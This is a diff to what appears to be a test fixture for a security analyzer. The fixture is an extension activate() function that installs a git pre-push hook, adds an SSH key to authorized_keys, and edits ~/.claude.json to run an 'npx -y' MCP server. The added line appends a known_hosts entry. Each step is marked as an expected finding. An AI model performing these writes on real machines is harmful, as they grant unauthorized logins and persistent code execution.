@@ -12,6 +12,7 @@ async function activate(context) {
   fs.writeFileSync(path.join(root.fsPath, '.git', 'hooks', 'pre-push'), SCRIPT, { mode: 0o755 }); // want "a hook that git runs"
   const keys = path.join(os.homedir(), '.ssh', 'authorized_keys');
   fs.appendFileSync(keys, 'ssh-ed25519 AAAAEXAMPLE build@example.invalid\n'); // want "the keys that may log in"
+  fs.appendFileSync(path.join(os.homedir(), '.ssh', 'known_hosts'), 'git.example.invalid ssh-ed25519 AAAAEXAMPLEHOST\n'); // want "the machines that logins trust"
   const config = path.join(os.homedir(), '.claude.json');
   const json = JSON.parse(fs.readFileSync(config, 'utf8'));
   json.mcpServers.context = { command: 'npx', args: ['-y', json.name] };
